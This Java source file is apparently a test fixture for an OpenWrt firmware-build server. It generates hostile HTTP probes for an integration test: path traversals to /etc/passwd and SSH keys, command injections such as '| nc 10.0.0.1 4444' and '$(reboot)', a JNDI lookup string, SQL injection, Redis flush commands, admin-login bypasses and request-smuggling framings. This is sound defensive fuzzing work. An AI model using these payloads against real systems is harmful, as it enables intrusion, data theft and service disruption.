package org.openwrt.asu.it;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/**
 * The generator of malformed and hostile requests {@link HostileInputIT} sends: each class of
 * attack the issue names, crossed with every path, field and spelling it applies to.
 */
final class HostileRequests {

    /** What a probe is, so the test can hold its answer to the right rule. */
    enum Kind {
        /** refused by the container's HTTP codec before any application code runs */
        CODEC,
        /** must not answer with content: the admin console without its login */
        ADMIN,
        /** a /store path: 200 only for the one file the test stored */
        STORE,
        /** everything else */
        OTHER
    }

    record Probe(Kind kind, String what, byte[] raw) {
    }

    static final String STORED_FILE = "hostile-input-it/image.bin";
    private static final String DEVICE = "\"version\":\"24.10.2\",\"target\":\"ath79/generic\",\"profile\":\"tplink_archer-c7-v5\"";
    private static final List<String> PATHS = List.of("/", "/stats", "/api-docs", "/health", "/health/live", "/health/ready",
            "/metrics", "/openapi", "/api/v1/build", "/api/v1/build/" + "0".repeat(64), "/api/build", "/api/build/0222f0cd9290",
            "/api/branches", "/api/latest", "/api/v1/stats", "/api/v1/top-packages", "/json/v1/overview.json",
            "/json/v1/releases/24.10.2/targets/ath79/generic/index.json", "/api/v1/revision/24.10.2/ath79/generic",
            "/store/" + STORED_FILE, "/static/no-such.js", "/no/such/route");
    private static final List<String> TRAVERSALS = List.of("../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd",
            "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "%252e%252e%252fetc%252fpasswd", "..\\..\\..\\etc\\passwd", "....//....//etc/passwd",
            "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..;/..;/etc/passwd", "/etc/passwd", "//etc/passwd", "etc/passwd%00.bin",
            "../WEB-INF/web.xml", "../../WEB-INF/web.xml", "..%2fWEB-INF%2fweb.xml", "../META-INF/MANIFEST.MF", ".",
            "..", "./", "%2e", "hostile-input-it/.", "hostile-input-it/..", "hostile-input-it/./image.bin",
            "hostile-input-it/../hostile-input-it/image.bin", "hostile-input-it//image.bin", "../asu-run.properties",
            "../admin-password", "../../admin-password", "../payara/config/domain.xml", "../redis/appendonly.aof", "~root/.ssh/id_rsa");
    private static final List<String> INJECTIONS = List.of("'; DROP TABLE builds; --", "\" OR \"1\"=\"1", "$(reboot)", "`id`",
            "; cat /etc/passwd", "| nc 10.0.0.1 4444", "../../../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://127.0.0.1/x}",
            "#{7*7}", "{{7*7}}", "%s%s%s%n", "\\u0000", "\u0000", "\r\nX-Injected: yes", "\uFEFF", "\uD800", "a".repeat(10_000),
            "*", "?", "\\", "/", "..", "luci\nvim", "-luci", "+vim", "vim=1.0", "KEYS *", "FLUSHALL", "\r\n*1\r\n$8\r\nFLUSHALL\r\n");
    private static final List<String> FIELDS = List.of("distro", "version", "version_code", "target", "profile", "packages",
            "packages_versions", "diff_packages", "defaults", "rootfs_size_mb", "filesystem", "repositories", "repositories_mode",
            "repository_keys", "client");
    private static final List<String> METHODS = List.of("FOO", "BREW", "PROPFIND", "MKCOL", "TRACE", "TRACK", "PATCH", "PUT",
            "DELETE", "CONNECT", "DEBUG", "get", "G E T", "GET\u0000", "X".repeat(300));
    private static final List<String> ADMIN_PATHS = List.of("/admin", "/admin/", "/ADMIN", "/Admin", "/admin;jsessionid=x", "/admin;/",
            "/%61dmin", "/%41DMIN", "//admin", "/./admin", "/admin/.", "/admin/./api/overview", "/x/../admin", "/admin%2fapi%2foverview",
            "/admin/api/overview", "/admin/api/overview/", "/admin/api/overview;x", "/admin/api//overview", "/admin/api/OVERVIEW",
            "/Admin/api/overview", "/admin/api/%6fverview", "/admin/api/dead-letters", "/admin/api/imagebuilders",
            "/admin/api/janitor/sync", "/admin/api/dead-letters/1/requeue", "/admin/index.html", "/admin/static/console.js",
            "/admin.json", "/admin/api/overview?user=admin", "/j_security_check", "/admin/j_security_check", "/admin/login");
    private static final List<String> LOGINS = List.of("", "Basic", "Basic ", "Basic !!!", "Basic " + b64("admin"), "Basic " + b64("admin:"),
            "Basic " + b64("admin:admin"), "Basic " + b64("admin:' OR '1'='1"), "Basic " + b64(":it-admin-secret"),
            "Basic " + b64("ADMIN:it-admin-secret-wrong"), "Basic " + b64("admin:it-admin-secre"), "Basic " + b64("admin\u0000:x"),
            "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.", "Digest username=\"admin\"", "basic " + b64("admin:password"),
            "Basic " + "A".repeat(6000), "Negotiate YII=");

    private HostileRequests() {
    }

    static List<Probe> all() {
        List<Probe> probes = new ArrayList<>();
        requestLines(probes);
        escapes(probes);
        oversized(probes);
        methods(probes);
        ranges(probes);
        bodies(probes);
        injections(probes);
        traversals(probes);
        admin(probes);
        smuggling(probes);
        return probes;
    }

    private static void requestLines(List<Probe> probes) {
        List<String> lines = List.of("GARBAGE", "GET", "GET /", "GET / HTTP/1.1 extra", "GET  /  HTTP/1.1", "GET\t/\tHTTP/1.1",
                " GET / HTTP/1.1", "GET / HTTP/1.", "GET / HTTP/1.1.1", "GET / HTTP/11", "GET / http/1.1", "GET / HTTPS/1.1",
                "GET / HTTP/2.0", "GET / HTTP/9.9", "GET / HTTP/0.9", "GET http://evil.example/ HTTP/1.1", "GET * HTTP/1.1",
                "GET ?x HTTP/1.1", "GET #x HTTP/1.1", "GET /\u0000 HTTP/1.1", "GET /\u00ff HTTP/1.1", "\u0016\u0003\u0001\u0000",
                "PRI * HTTP/2.0", "GET /" + "\r".repeat(3) + " HTTP/1.1");
        for (String line : lines) {
            for (String tail : List.of("\r\nHost: x\r\nConnection: close\r\n\r\n", "\r\n\r\n", "\n\n", "\r\nHost: x\r\nHost: y\r\n\r\n")) {
                probes.add(new Probe(Kind.CODEC, "request line " + printable(line), (line + tail).getBytes(StandardCharsets.ISO_8859_1)));
            }
        }
        for (String header : List.of("NoColon", ": empty-name", "Bad Name: x", "X-Bad: \u0000", "X-Folded: a\r\n folded",
                "Host: x\r\nHost: y", "Content-Length: abc", "Content-Length: -1", "Content-Length: 1e3",
                "Content-Length: 99999999999999999999999")) {
            probes.add(new Probe(Kind.CODEC, "header " + printable(header),
                    ("POST /api/v1/build HTTP/1.1\r\nHost: x\r\n" + header + "\r\nConnection: close\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1)));
        }
    }

    private static void escapes(List<Probe> probes) {
        for (String prefix : List.of("/admin/", "/api/v1/", "/api/v1/build/", "/api/build/", "/store/", "/json/v1/", "/", "/health/",
                "/metrics/", "/static/")) {
            for (String escape : List.of("%zz", "%", "%0", "%g0", "%u0041", "%00", "%ff", "%c0%af", "%e0%80%af", "%ed%a0%80", "%%32%65")) {
                probes.add(new Probe(Kind.CODEC, "escape " + prefix + escape, get(prefix + escape, "")));
            }
        }
    }

    private static void oversized(List<Probe> probes) {
        for (int length : List.of(9_000, 20_000, 70_000, 200_000)) {
            probes.add(new Probe(Kind.CODEC, "URL of " + length, get("/api/v1/build/" + "a".repeat(length), "")));
            probes.add(new Probe(Kind.CODEC, "query of " + length, get("/json/v1/overview.json?" + "a".repeat(length), "")));
            probes.add(new Probe(Kind.CODEC, "header of " + length, get("/health", "X-Big: " + "b".repeat(length) + "\r\n")));
        }
        probes.add(new Probe(Kind.CODEC, "500 headers", get("/health", "X-Many: 1\r\n".repeat(500))));
        probes.add(new Probe(Kind.CODEC, "5000 cookies", get("/", "Cookie: " + "a=1; ".repeat(5000) + "\r\n")));
    }

    private static void methods(List<Probe> probes) {
        for (String path : PATHS) {
            for (String method : METHODS) {
                boolean odd = !method.matches("[A-Z]+");
                probes.add(new Probe(odd ? Kind.CODEC : kindOf(path), method.length() > 20 ? "long method " + path : method + " " + path,
                        (method + " " + path + " HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
                                .getBytes(StandardCharsets.ISO_8859_1)));
            }
        }
    }

    private static void ranges(List<Probe> probes) {
        for (String range : List.of("bytes=99999999999999999999-", "bytes=-99999999999999999999", "bytes=0-99999999999999999999",
                "bytes=5-1", "bytes=1000000-", "bytes=-0", "bytes=0-0,1-1,2-2", "bytes=a-b", "bytes=", "bytes=-", "items=0-1",
                "bytes=0-1,", "bytes= 0-1", "bytes=" + "9".repeat(5000) + "-", "bytes=0-" + "1".repeat(40))) {
            probes.add(new Probe(Kind.STORE, "Range " + printable(range), get("/store/" + STORED_FILE, "Range: " + range + "\r\n")));
        }
    }

    private static void bodies(List<Probe> probes) {
        List<String> bodies = new ArrayList<>(List.of("", "{", "}", "[]", "null", "1", "\"x\"", "{\"version\":", "{}{}",
                "{\"packages\":" + "[".repeat(1_000) + "]".repeat(1_000) + "}", "[".repeat(100_000),
                "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000), "{\"rootfs_size_mb\":" + "9".repeat(2_000) + "}",
                "{\"rootfs_size_mb\":1e999999}", "{\"rootfs_size_mb\":-0.0000000000000000000000000000001}",
                "{" + DEVICE + ",\"rootfs_size_mb\":" + "1".repeat(1_200) + "}", "{\"version\":\"\\ud800\"}", "{\"version\":\"\\u0000\"}",
                "{" + DEVICE + ",\"packages\":[" + "\"bad name!\",".repeat(10_000) + "\"x\"]}",
                "{" + DEVICE + ",\"packages\":[" + "\"nosuchpkg\",".repeat(5_000) + "\"x\"]}",
                "{" + DEVICE + ",\"packages_versions\":{" + "\"k\":\"v\",".repeat(1) + "\"x\":1}}",
                "{" + DEVICE + ",\"repositories\":{" + "\"r\":\"http://127.0.0.1/\",".repeat(3) + "\"s\":\"file:///etc\"}}",
                "{" + DEVICE + ",\"client\":\"" + "c".repeat(200_000) + "\"}", "{\"" + "k".repeat(100_000) + "\":1}"));
        StringBuilder keys = new StringBuilder("{" + DEVICE);
        for (int i = 0; i < 10_000; i++) {
            keys.append(",\"key").append(i).append("\":").append(i);
        }
        bodies.add(keys.append('}').toString());
        List<String> types = List.of("application/json", "application/json; charset=utf-8", "application/json; charset=no-such-charset",
                "application/json; charset=\"", "application/json; charset=utf-32", "text/plain", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/json;;;", "/", ";", "json", "application/json; charset=" + "x".repeat(300));
        for (String path : List.of("/api/v1/build", "/api/build")) {
            for (String body : bodies) {
                probes.add(new Probe(Kind.OTHER, "body of " + body.length() + " " + printable(body), post(path, "application/json", body)));
            }
            for (String type : types) {
                probes.add(new Probe(Kind.OTHER, "Content-Type " + printable(type), post(path, type, "{" + DEVICE + ",\"packages\":[\"vim\"]}")));
            }
            byte[] invalidUtf8 = "{\"version\":\"\u00ff\u00fe\"}".getBytes(StandardCharsets.ISO_8859_1);
            probes.add(new Probe(Kind.OTHER, "invalid UTF-8", post(path, "application/json", invalidUtf8)));
            probes.add(new Probe(Kind.OTHER, "declared 100 MB body", ("POST " + path + " HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                    + "Content-Length: 104857600\r\nConnection: close\r\n\r\n{\"version\":").getBytes(StandardCharsets.ISO_8859_1)));
            probes.add(new Probe(Kind.OTHER, "chunked 1 MB body", chunked(path, "{\"client\":\"" + "x".repeat(1_000_000) + "\"}")));
            probes.add(new Probe(Kind.OTHER, "1 MB body", post(path, "application/json", "{\"client\":\"" + "x".repeat(1_000_000) + "\"}")));
        }
    }

    private static void injections(List<Probe> probes) {
        for (String path : List.of("/api/v1/build", "/api/build")) {
            for (String field : FIELDS) {
                for (String payload : INJECTIONS) {
                    String value = jsonString(payload);
                    probes.add(new Probe(Kind.OTHER, "injection into " + field + " " + printable(payload),
                            post(path, "application/json", request(field, value))));
                }
                for (String value : List.of("[" + jsonString("$(reboot)") + "]", "{\"x\":" + jsonString("`id`") + "}", "-1",
                        "99999999999999999999", "true", "null", "1.5", "[[[]]]")) {
                    probes.add(new Probe(Kind.OTHER, "type confusion in " + field + " " + value, post(path, "application/json", request(field, value))));
                }
            }
        }
        for (String payload : INJECTIONS) {
            for (String header : List.of("User-Agent", "Origin", "X-Forwarded-For", "Accept", "Accept-Language", "If-None-Match")) {
                String value = payload.replace("\r", "").replace("\n", "");
                probes.add(new Probe(Kind.OTHER, "injection into " + header + " " + printable(payload),
                        get("/json/v1/overview.json", header + ": " + value + "\r\n")));
            }
        }
    }

    private static void traversals(List<Probe> probes) {
        for (String traversal : TRAVERSALS) {
            for (String prefix : List.of("/store/", "/api/v1/build/", "/api/build/", "/json/v1/", "/json/v1/releases/",
                    "/api/v1/revision/", "/api/v1/revision/24.10.2/", "/static/", "/", "/api-docs/", "/admin/api/imagebuilders/")) {
                Kind kind = prefix.startsWith("/admin") ? Kind.ADMIN : prefix.equals("/store/") ? Kind.STORE : Kind.OTHER;
                probes.add(new Probe(kind, "traversal " + prefix + traversal, get(prefix + traversal, "")));
            }
        }
    }

    private static void admin(List<Probe> probes) {
        for (String path : ADMIN_PATHS) {
            for (String login : LOGINS) {
                String header = login.isEmpty() ? "" : "Authorization: " + login + "\r\n";
                for (String method : List.of("GET", "POST", "DELETE", "HEAD", "OPTIONS")) {
                    probes.add(new Probe(Kind.ADMIN, method + " " + path + " with " + printable(login),
                            (method + " " + path + " HTTP/1.1\r\nHost: x\r\n" + header + "X-Requested-By: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                                    .getBytes(StandardCharsets.ISO_8859_1)));
                }
            }
            for (String form : List.of("j_username=admin&j_password=it-admin-secret-no", "j_username=admin&j_password=' OR 1=1 --",
                    "username=admin&password=admin", "user=admin&pass=", "j_username=admin")) {
                probes.add(new Probe(Kind.ADMIN, "login form to " + path, post(path, "application/x-www-form-urlencoded", form)));
            }
        }
    }

    private static void smuggling(List<Probe> probes) {
        String hidden = "GET /admin/api/overview HTTP/1.1\r\nHost: x\r\n\r\n";
        List<String> framings = List.of(
                "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
                "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + hidden,
                "Content-Length: " + (hidden.length() + 5) + "\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
                "Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + hidden,
                "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + hidden,
                "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + hidden,
                "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
                "Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n" + hidden,
                "Content-Length: 5\r\nContent-Length: 6\r\n\r\n{}{}{}" + hidden,
                "Content-Length: 5, 6\r\n\r\n{}{}{}" + hidden,
                "Content-Length: +5\r\n\r\n{}{}{" + hidden,
                "Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n{}\r\n0\r\n\r\n" + hidden,
                "Transfer-Encoding: chunked\r\n\r\n2;ext=\"\r\n{}\r\n0\r\n\r\n" + hidden,
                "Transfer-Encoding: chunked\r\n\r\n-2\r\n{}\r\n0\r\n\r\n" + hidden,
                "Transfer-Encoding: chunked\r\n\r\n2\n{}\n0\n\n" + hidden,
                "Content-Length: 0\r\n\r\n" + hidden);
        for (String path : List.of("/api/v1/build", "/api/build", "/health", "/json/v1/overview.json")) {
            for (String framing : framings) {
                probes.add(new Probe(Kind.OTHER, "smuggling to " + path + " " + printable(framing),
                        ("POST " + path + " HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" + framing).getBytes(StandardCharsets.ISO_8859_1)));
            }
        }
    }

    private static Kind kindOf(String path) {
        return path.startsWith("/store/") ? Kind.STORE : Kind.OTHER;
    }

    private static String request(String field, String value) {
        String body = "{" + DEVICE + ",\"packages\":[\"vim\"]";
        return (body.contains("\"" + field + "\"") ? body.replaceFirst("\"" + field + "\":(\"[^\"]*\"|\\[[^]]*])", "\"" + field + "\":" + value.replace("\\", "\\\\").replace("$", "\\$"))
                : body + ",\"" + field + "\":" + value) + "}";
    }

    private static String jsonString(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> json.append("\\\"");
                case '\\' -> json.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        json.append(String.format("\\u%04x", (int) c));
                    } else {
                        json.append(c);
                    }
                }
            }
        }
        return json.append('"').toString();
    }

    static byte[] get(String path, String headers) {
        return ("GET " + path + " HTTP/1.1\r\nHost: x\r\n" + headers + "Connection: close\r\n\r\n").getBytes(StandardCharsets.UTF_8);
    }

    static byte[] post(String path, String type, String body) {
        return post(path, type, body.getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] post(String path, String type, byte[] body) {
        byte[] head = ("POST " + path + " HTTP/1.1\r\nHost: x\r\nContent-Type: " + type + "\r\nContent-Length: " + body.length
                + "\r\nConnection: close\r\n\r\n").getBytes(StandardCharsets.UTF_8);
        byte[] raw = java.util.Arrays.copyOf(head, head.length + body.length);
        System.arraycopy(body, 0, raw, head.length, body.length);
        return raw;
    }

    private static byte[] chunked(String path, String body) {
        StringBuilder raw = new StringBuilder("POST " + path + " HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                + "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n");
        for (int at = 0; at < body.length(); at += 8192) {
            String chunk = body.substring(at, Math.min(body.length(), at + 8192));
            raw.append(Integer.toHexString(chunk.length())).append("\r\n").append(chunk).append("\r\n");
        }
        return raw.append("0\r\n\r\n").toString().getBytes(StandardCharsets.UTF_8);
    }

    private static String b64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    /** A short, printable description of a hostile string for the report. */
    static String printable(String text) {
        String shown = text.length() > 60 ? text.substring(0, 60) + "…(" + text.length() + ")" : text;
        StringBuilder out = new StringBuilder();
        for (char c : shown.toCharArray()) {
            out.append(c < 0x20 || c == 0x7f ? String.format("\\x%02x", (int) c) : String.valueOf(c));
        }
        return out.toString();
    }
}
